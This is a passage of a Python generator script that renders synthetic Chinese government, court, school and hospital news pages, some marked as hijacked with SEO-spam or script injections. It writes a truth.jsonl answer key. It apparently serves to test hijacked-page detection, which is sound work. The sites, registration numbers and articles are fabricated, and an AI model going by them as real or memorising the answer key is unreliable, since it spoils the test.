<table id="icms_main" width="100%" cellspacing="0" cellpadding="0"><tr>
<td id="icms_leftcolumn" width="200"><div class="icms_block"><div class="icms_block_title">栏目导航</div><div class="icms_block_content"><ul><li><a href="/modules/news/index.php?storytopic=1">{COLS[s['kind']]}</a></li><li><a href="/modules/news/index.php?storytopic=2">通知公告</a></li><li><a href="/modules/news/index.php?storytopic=3">教研动态</a></li></ul></div></div></td>
<td id="icms_centercolumn">
<div class="news_breadcrumb">当前位置：<a href="/">首页</a> &raquo; <a href="/modules/news/index.php">{COLS[s['kind']]}</a></div>
<div class="item">
<div class="itemHead"><span class="itemTitle">{esc(pg['title'])}</span></div>
<div class="itemInfo">{meta}</div>
<div class="itemBody"><div class="itemText">
{paras_html(pg['paras'], inj)}
</div>
<p class="itemSource">（来源：{esc(pg['shown_source'])}）</p>
</div>
<div class="itemFoot"><a href="/modules/news/print.php?storyid={pg['num']}">打印</a> | <a href="/modules/news/makepdf.php?storyid={pg['num']}">PDF</a></div>
</div>
<div class="news_related"><b>相关新闻</b><ul>{related_html(pg['related'], inj)}</ul></div>
</td></tr></table>
<div id="icms_footer">
<div class="flinks">友情链接：{friend_html(inj, [(s['short'] + '门户网站', 'http://www.' + s['host'].split('.', 1)[1] + '/'), ('国家中小学智慧教育平台', 'https://basic.smartedu.cn/')], 'span')}</div>
<p>版权所有：{esc(s['name'])}　地址：{esc(pg['addr'])}　电话：{pg['tel']}<br /><a href="https://beian.miit.gov.cn/">{pg['icp']}</a></p>
{inj.get('footer', '')}
</div>
{inj.get('script_end', '')}
</body>
</html>
"""


def tpl_C(pg):  # Subrion-style 信息公开 page, GB18030
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<li class="nav-item"><a class="nav-link" href="/{["index.html", "jggk/", "zwdt/", "zcwj/", "xxgk/", "bsfw/"][i % 6]}">{n}</a></li>' for i, n in enumerate(nav_items(s)))
    y, m, d = pg["date"]
    table = f"""<table class="table table-bordered xxgk-meta">
<tr><th>索 引 号</th><td>{pg['syh'].format(y=y)}</td><th>主题分类</th><td>{pg['topic_cls']}</td></tr>
<tr><th>发布机构</th><td>{esc(s['name'])}</td><th>成文日期</th><td>{y}年{m:02d}月{d:02d}日</td></tr>
<tr><th>名　　称</th><td colspan="3">{esc(pg['title'])}</td></tr>
<tr><th>文　　号</th><td></td><th>发布日期</th><td>{y}-{m:02d}-{d:02d}</td></tr>
<tr><th>信息来源</th><td>{esc(pg['shown_source'])}</td><th>有 效 性</th><td>有效</td></tr>
</table>"""
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030">
<meta name="generator" content="Subrion CMS - Open Source Content Management System">
<title>{esc(page_title(pg['title'], s['name'], inj, '_'))}</title>
<meta name="SiteName" content="{esc(s['name'])}">
{('<meta name="keywords" content="' + inj['meta_kw'] + '">') if inj.get('meta_kw') else ''}
<link rel="stylesheet" href="/templates/kickstart/css/iabootstrap.css">
{head_extra(inj)}
</head>
<body class="page-view_article">
<header class="header"><div class="container"><a class="brand" href="/"><img src="/uploads/logo.png" alt=""><span class="brand-name">{esc(name)}</span></a></div>
<nav class="navbar navbar-default"><div class="container"><ul class="nav navbar-nav">{nav}</ul></div></nav></header>
<section id="content"><div class="container"><div class="row"><div class="col-md-12">
<ol class="breadcrumb"><li><a href="/">首页</a></li><li><a href="/xxgk/">信息公开</a></li><li class="active">工作动态</li></ol>
<div class="ia-item view-item">
{table}
<h1 class="page-header">{esc(pg['title'])}</h1>
<div class="ia-item__content">
{paras_html(pg['paras'], inj)}
</div>
<div class="ia-item__actions"><a href="javascript:window.print();">【打印】</a><a href="javascript:window.close();">【关闭】</a></div>
</div>
<div class="ia-items related"><h4>相关信息</h4><ul>{related_html(pg['related'], inj)}</ul></div>
</div></div></div></section>
<footer class="footer"><div class="container">
<div class="links">相关链接：<ul class="list-inline">{friend_html(inj, [(s['short'] + '政务服务网', 'http://zwfw.' + s['host'].split('.', 1)[1] + '/'), ('中国法律服务网', 'http://www.12348.gov.cn/')])}</ul></div>
<p>主办单位：{esc(s['name'])}　网站标识码：{pg['bsm']}<br><a href="https://beian.miit.gov.cn/">{pg['icp']}</a>　{pg['gongan']}</p>
{inj.get('footer', '')}
</div></footer>
{inj.get('script_end', '')}
</body>
</html>
"""


QUICK = {False: [("就业信息", "jobs"), ("学生服务", "students")], True: [("预约挂号", "yygh"), ("专家介绍", "zjjs")]}


def tpl_D(pg):  # Fork CMS-style college news, utf-8
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<li><a href="/zh/{["", "about", "news", "teaching", "students", "jobs"][i]}" title="{n}">{n}</a></li>' for i, n in enumerate(nav_items(s)))
    y, m, d = pg["date"]
    author_line = ""
    if pg["shown_author"]:
        author_line = f'<p class="editor">（文/{esc(pg["shown_author"])}　审核/{pg["reviewer"]}）</p>'
    credit = inj.get("credit", "")
    return f"""<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<meta name="generator" content="Fork CMS">
<title>{esc(page_title(pg['title'], s['name'], inj, ' | '))}</title>
{('<meta name="keywords" content="' + inj['meta_kw'] + '">') if inj.get('meta_kw') else ''}
<link rel="stylesheet" href="/src/Frontend/Themes/Bootstrap/Core/Layout/Css/screen.css">
{head_extra(inj)}
</head>
<body class="zh" itemscope itemtype="http://schema.org/WebPage">
<header id="header" role="banner"><div class="container"><h2 id="logo"><a href="/" title="{esc(name)}">{esc(name)}</a></h2>
<nav id="navigation" role="navigation"><ul class="nav">{nav}</ul></nav></div></header>
<main id="main" class="container"><div class="row"><div class="col-md-9">
<article class="blogArticle" itemscope itemtype="http://schema.org/Article">
<header><h1 itemprop="name">{esc(pg['title'])}</h1>
<p class="date">{y}年{m:02d}月{d:02d}日 <span class="sep">|</span> 来源：{esc(pg['shown_source'])} <span class="sep">|</span> 点击：{views(pg)}</p></header>
<div class="bd content" itemprop="articleBody">
{paras_html(pg['paras'], inj)}
</div>
{author_line}
</article>
<section class="blogNavigation"><ul>{related_html(pg['related'], inj)}</ul></section>
</div>
<aside class="col-md-3"><div class="widget"><h3>快速链接</h3><ul>{''.join(f'<li><a href="/zh/{u}">{n}</a></li>' for n, u in QUICK[s['kind'] == 'hospital'])}</ul></div></aside></div></main>
<footer id="footer" role="contentinfo"><div class="container">
<ul class="footerLinks">{friend_html(inj, [('院务公开', '/zh/ywgk'), ('门诊时间', '/zh/mzsj')] if s['kind'] == 'hospital' else [('教务系统', '/jwxt/'), ('图书馆', 'http://lib.' + s['host'].split('.', 1)[1] + '/')])}</ul>
<p>&copy; {y} {esc(s['name'])}　{esc(pg['addr'])}　{credit}</p>
{inj.get('footer', '')}
</div></footer>
{inj.get('script_end', '')}
</body>
</html>
"""


def tpl_E(pg):  # Cotonti-style court / hospital / bureau site, GBK
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<li><a href="index.php?e=page&amp;c=c{i}">{n}</a></li>' for i, n in enumerate(nav_items(s)))
    y, m, d = pg["date"]
    by = (f'<div class="pageinfo">【日期：{y}-{m:02d}-{d:02d}】【来源：{esc(pg["shown_source"])}】'
          + (f'【作者：{esc(pg["shown_author"])}】' if pg["shown_author"] else "")
          + '【字体：<a href="javascript:fs(16)">大</a> <a href="javascript:fs(14)">中</a> <a href="javascript:fs(12)">小</a>】</div>')
    return f"""<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=GBK" />
<meta name="generator" content="Cotonti http://www.cotonti.com" />
<title>{esc(page_title(pg['title'], s['name'], inj, ' - '))}</title>
{('<meta name="keywords" content="' + inj['meta_kw'] + '" />') if inj.get('meta_kw') else ''}
<link href="themes/nemesis/css/default.css" type="text/css" rel="stylesheet" />
{head_extra(inj)}
</head>
<body>
<div id="header"><div class="container"><h1><a href="index.php">{esc(name)}</a></h1><p class="sitedesc">{esc(s['short'])}</p></div></div>
<div id="nav"><ul class="container">{nav}</ul></div>
<div id="main" class="container">
<div class="col3-2 first">
<div class="block">
<h2 class="page-title">{esc(pg['title'])}</h2>
{by}
<div class="textbox">
{paras_html(pg['paras'], inj)}
</div>
<div class="pageinfo-foot">浏览次数：{views(pg)}　<a href="javascript:window.print()">打印本页</a></div>
</div>
<div class="block"><h3>相关阅读</h3><ul>{related_html(pg['related'], inj)}</ul></div>
</div>
<div class="col3-1"><div class="block"><h3>便民服务</h3><ul><li><a href="index.php?e=page&amp;c=bm1">办事指南</a></li><li><a href="index.php?e=page&amp;c=bm2">联系我们</a></li></ul></div></div>
</div>
<div id="footer"><div class="container">
<div class="yqlj">友情链接：{friend_html(inj, [('中国政府网', 'http://www.gov.cn/')], 'span')}</div>
<p>{esc(s['name'])} 版权所有　地址：{esc(pg['addr'])}　<a href="https://beian.miit.gov.cn/">{pg['icp']}</a></p>
{inj.get('footer', '')}
</div></div>
{inj.get('script_end', '')}
</body>
</html>
"""


def tpl_F(pg):  # Kooboo-style bureau / county site, utf-8
    s, inj = pg["site"], pg["inj"]
    name = inj.get("site_name", s["name"])
    nav = "".join(f'<a class="kb-nav-item" href="/{["index", "about", "news", "policy", "open", "service"][i]}">{n}</a>' for i, n in enumerate(nav_items(s)))
    y, m, d = pg["date"]
    dl = (f'<dl class="kb-meta"><dt>信息来源</dt><dd>{esc(pg["shown_source"])}</dd><dt>发布日期</dt><dd>{y}年{m}月{d}日</dd>'
          f'<dt>字号</dt><dd><a href="javascript:;" k-fs="18">大</a> <a href="javascript:;" k-fs="16">中</a> <a href="javascript:;" k-fs="14">小</a></dd></dl>')
    foot_by = ""
    if pg["shown_author"]:
        foot_by = f'<div class="kb-editor">作者：{esc(pg["shown_author"])}　　责任编辑：{pg["reviewer"]}</div>'
    return f"""<!DOCTYPE html>
<html lang="zh-cn">
<head>
<meta charset="utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" />
<title>{esc(page_title(pg['title'], s['name'], inj, '-'))}</title>
{('<meta name="keywords" content="' + inj['meta_kw'] + '" />') if inj.get('meta_kw') else ''}
<link rel="stylesheet" href="/__kb/kbroute/css/site.css" />
<script src="/_Admin/Scripts/kooboo/k-visual.js"></script>
{head_extra(inj)}
</head>
<body k-page="article">
<div class="kb-top"><div class="kb-w">今天是：<span id="kb-today"></span>　<a href="/old">无障碍</a></div></div>
<div class="kb-banner"><div class="kb-w"><span class="kb-sitename">{esc(name)}</span></div></div>
<div class="kb-nav"><div class="kb-w">{nav}</div></div>
<div class="kb-w kb-main">
<div class="kb-loc">您的位置：<a href="/index">首页</a> &gt; <a href="/news">工作动态</a></div>
<div class="kb-article">
<h1 class="kb-title">{esc(pg['title'])}</h1>
{dl}
<div class="kb-content" k-content="body">
{paras_html(pg['paras'], inj)}
</div>
{foot_by}
<div class="kb-share">分享到：<a href="javascript:;">微信</a> <a href="javascript:;">微博</a></div>
</div>
<div class="kb-related"><h3>相关文章</h3><ul>{related_html(pg['related'], inj)}</ul></div>
</div>
<div class="kb-footer"><div class="kb-w">
<div class="kb-links">相关网站：{friend_html(inj, [('中国政府网', 'http://www.gov.cn/'), ('省人民政府', 'http://www.example-sheng.gov.cn/')], 'span')}</div>
<p>主办：{esc(s['name'])}　网站标识码：{pg['bsm']}　<a href="https://beian.miit.gov.cn/">{pg['icp']}</a></p>
<p>{pg['gongan']}　建议使用IE9及以上版本浏览器</p>
{inj.get('footer', '')}
</div></div>
{inj.get('script_end', '')}
</body>
</html>
"""


TPL = {"T47A": (tpl_A, "utf-8"), "T47B": (tpl_B, "gbk"), "T47C": (tpl_C, "gb18030"), "T47D": (tpl_D, "utf-8"),
       "T47E": (tpl_E, "gbk"), "T47F": (tpl_F, "utf-8")}
URLPAT = {
    "T47A": "http://{h}/spip.php?article{n}",
    "T47B": "http://{h}/modules/news/article.php?storyid={n}",
    "T47C": "http://{h}/xxgk/gzdt/{y}{m:02d}/t{y}{m:02d}{d:02d}_{n}.html",
    "T47D": "http://{h}/zh/news/detail/{y}{m:02d}{d:02d}-{n}",
    "T47E": "http://{h}/index.php?e=page&id={n}",
    "T47F": "http://{h}/news/{y}/{m:02d}/{n}.html",
}
PROV = ["湘", "赣", "皖", "鄂", "黔", "滇", "桂", "闽"]
TOPIC_CLS = {"justice": "公安、安全、司法/司法", "court": "公安、安全、司法/司法", "bureau": "综合政务/政务公开",
             "county": "综合政务/其他", "hospital": "卫生、体育/卫生"}


SINGLE_FIT = {
    "wjw.pingshanzh.gov.cn": {9, 17, 0}, "nyj.cangling.gov.cn": {3, 10, 18}, "scjg.baiyunzh.gov.cn": {12, 20},
    "czj.songtai.gov.cn": {23, 8}, "mzj.haoshan.gov.cn": {13, 21}, "jyj.luoshui-x.gov.cn": {5, 22, 11},
    "xxgk.dunhe.gov.cn": {8, 23, 2, 17}, "jcy.lixian-s.gov.cn": {6, 22},
}


SEASON = {"宪法宣传周": [12], "汛前": [3, 4, 5], "秋粮": [9, 10, 11], "冬春季": [11, 12, 1], "春季就业": [2, 3],
          "双选会": [11, 12, 3], "第一季度": [4], "家长会": [3, 9, 10, 11], "研学": [4, 5, 10]}


def rand_date():
    y = R.choice([2023, 2024, 2024, 2025])
    m = R.randint(1, 12)
    d = R.randint(1, 28)
    return (y, m, d)


def page_common(site, num):
    host = site["host"]
    pv = R.choice(PROV)
    return dict(
        views=R.randint(40, 3800), hm=f"{R.randint(8, 17):02d}:{R.randint(0, 59):02d}",
        bsm=f"{R.randint(3000000000, 6999999999)}", icp=f"{pv}ICP备{R.randint(10000000, 29999999)}号-{R.randint(1, 3)}",
        gongan=f"{pv}公网安备 {R.randint(40000000000000, 49999999999999)}号", addr=f"{site['short']}{R.choice(['人民路', '文昌路', '建设大道', '学府路'])}{R.randint(1, 300)}号",
        tel=f"0{R.randint(700, 799)}-{R.randint(2000000, 8999999)}", reviewer=person(), num=num,
        syh=f"{R.randint(11000000, 11999999)}{R.choice(['MB', 'KA', 'QA'])}{R.randint(1000, 9999)}/{{y}}-{R.randint(100, 999):05d}",
        topic_cls=TOPIC_CLS.get(site["kind"], "综合政务/其他"),
    )


EDU_T = {4, 5, 11, 14, 19, 22}
COL_T = {7, 16, 4, 11, 2, 20}
MED_T = {9, 17}
LAW_T = {6, 15}
FIT = {
    "school": EDU_T, "college": COL_T, "hospital": MED_T | {4, 21},
    "court": LAW_T | {0}, "justice": LAW_T | {24, 25, 0}, "county": set(range(len(TOPICS))) - EDU_T - COL_T - MED_T - {24, 25},
    "bureau": set(range(len(TOPICS))) - EDU_T - COL_T - {9, 24, 25},
}
USED = {}


def pick_topic(pool, site):
    """A topic fitting the site's kind, not yet used on that host; pool is refilled when it runs dry."""
    used = USED.setdefault(site["host"], set())
    fit = site.get("fit") or FIT[site["kind"]]
    for _round in range(2):
        for k, i in enumerate(pool):
            if i in fit and i not in used:
                used.add(i)
                del pool[k]
                return TOPICS[i]
        extra = list(range(len(TOPICS)))
        R.shuffle(extra)
        pool.extend(extra)
    raise RuntimeError("no topic")


def build():
    pages = []
    topics = list(range(len(TOPICS)))
    R.shuffle(topics)
    legit = list(LEGIT)
    tpl_of_single = ["T47E", "T47F", "T47A", "T47B", "T47C", "T47D"]
    # sites: hijacked pattern per site: A 3, B 2, C 3, D 2; legit on A (page 4) and C (page 5)
    plan = []
    hij_n = {"A": 3, "B": 2, "C": 3, "D": 2}
    legit_at = {("A", 3): 0, ("C", 4): 1}
    for key in "ABCD":
        s = SITES[key]
        order = [True] * hij_n[key] + [False] * (5 - hij_n[key])
        R.shuffle(order)
        # keep the legit slot clean
        for (k2, idx) in legit_at:
            if k2 == key and order[idx]:
                j = order.index(False)
                order[idx], order[j] = False, True
        for i, h in enumerate(order):
            plan.append(dict(site=s, hijacked=h, legit=(key, i) in legit_at, legit_no=legit_at.get((key, i)),
                             form=SITE_INJ[key]["form"] if h else None,
                             brands=SITE_INJ[key]["brands"] if h else [], host_inj=SITE_INJ[key]["host"],
                             site_key=key))
    # singles: 18 hijacked (one form each) + 2 legit
    single_legit_pos = {18: 3, 19: 2}
    fi = 0
    for i, (host, name, short, kind) in enumerate(SINGLES):
        s = dict(host=host, name=name, short=short, kind=kind, tpl=tpl_of_single[i % 6], fit=SINGLE_FIT.get(host))
        if i in single_legit_pos:
            plan.append(dict(site=s, hijacked=False, legit=True, legit_no=single_legit_pos[i], form=None, brands=[],
                             host_inj=None, site_key=None))
        else:
            form, brands, hinj = SINGLE_FORMS[fi]
            fi += 1
            plan.append(dict(site=s, hijacked=True, legit=False, legit_no=None, form=form, brands=brands,
                             host_inj=hinj, site_key=None))
    assert fi == len(SINGLE_FORMS)
    for n, p in enumerate(plan, 1):
        s = p["site"]
        topic = legit[p["legit_no"]] if p["legit"] else pick_topic(topics, s)
        date = rand_date()
        for key, months in SEASON.items():
            if key in topic[0]:
                date = (date[0], R.choice(months), date[2])
        if p["legit"] and p["legit_no"] == 3:
            org = s["name"]
        else:
            org = s["name"]
        title, paras = make_article(topic, s["short"], org, s["kind"], date)
        num = R.randint(1200, 58000)
        pc = page_common(s, num)
        inj = build_injection(p["form"], p["brands"], p["host_inj"], n) if p["hijacked"] else {}
        src_t = R.choice(SOURCE_BY_KIND[s["kind"]])
        true_source = src_t.format(s=s["short"], o=s["name"])
        if s["name"].endswith("新闻网"):
            true_source = R.choice(["党委宣传部", "新闻中心"])
        has_author = s["tpl"] != "T47C" and R.random() < 0.7
        true_author = person() if has_author else None
        if p["form"] == "brand-as-author":
            true_author = None
        shown_source = inj.get("source", true_source)
        shown_author = inj.get("author", true_author)
        if s["tpl"] == "T47B" and not shown_author:
            true_author = None
        fit = sorted((s.get("fit") or FIT.get(s["kind"]) or set(range(len(TOPICS)))) - {TOPICS.index(topic) if topic in TOPICS else -1})
        if len(fit) < 3:
            fit = sorted(set(fit) | FIT["county"])
        rel = []
        for i in R.sample(fit, 3):
            rd = rand_date()
            rel.append((make_article(TOPICS[i], s["short"], s["name"], s["kind"], rd)[0],
                        URLPAT[s["tpl"]].format(h=s["host"], n=R.randint(1200, 58000), y=rd[0], m=rd[1], d=rd[2])))
        pg = dict(site=s, inj=inj, title=title, paras=paras, date=date,
                  date_s=f"{date[0]}-{date[1]:02d}-{date[2]:02d} {pc['hm']}", shown_source=shown_source,
                  shown_author=shown_author, related=rel, **pc)
        fn, enc = TPL[s["tpl"]]
        html = fn(pg)
        y, m, d = date
        url = URLPAT[s["tpl"]].format(h=s["host"], n=num, y=y, m=m, d=d)
        pid = f"sv47-{n:03d}"
        spam = list(p["brands"])
        if p["form"] == "keyword-stuffed-title":
            spam = list(p["brands"]) + [p["brands"][0] + "官方入口"]
        origin = f"synthetic-generator-v47 template {s['tpl']}; "
        if p["site_key"]:
            origin += f"site {p['site_key']}; "
        if p["hijacked"]:
            origin += f"hijacked: {p['form']}" + (" (the site's shared injection)" if p["site_key"] else "")
            if not spam:
                origin += "; shows no injected string (a script that redirects or loads code), see marker"
        else:
            origin += "clean" + ("; legit: lawful lottery/gambling-regulation news of the site itself" if p["legit"] else "")
        t = dict(id=pid, url=url, title=title, date=f"{y}-{m:02d}-{d:02d}",
                 source=(None if "source" in inj else true_source),
                 author=(None if "author" in inj else true_author),
                 text="\n".join(paras), hijacked=p["hijacked"],
                 injections=(p["form"].split("+") if p["hijacked"] else []), spam_strings=spam, legit=p["legit"],
                 lang="zh", origin=origin, kind="synthetic", site=s["host"], capture="html", encoding=enc,
                 template=s["tpl"])
        if inj.get("marker"):
            t["marker"] = inj["marker"]
        pages.append((pid, html.encode(enc), t, inj))
    return pages


def main():
    pages = build()
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    for pid, data, _, _ in pages:
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(data)
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for _, _, t, _ in pages:
            f.write(json.dumps(t, ensure_ascii=False) + "\n")
    print(f"wrote {len(pages)} pages to {os.path.normpath(OUT)}")


if __name__ == "__main__":
    main()
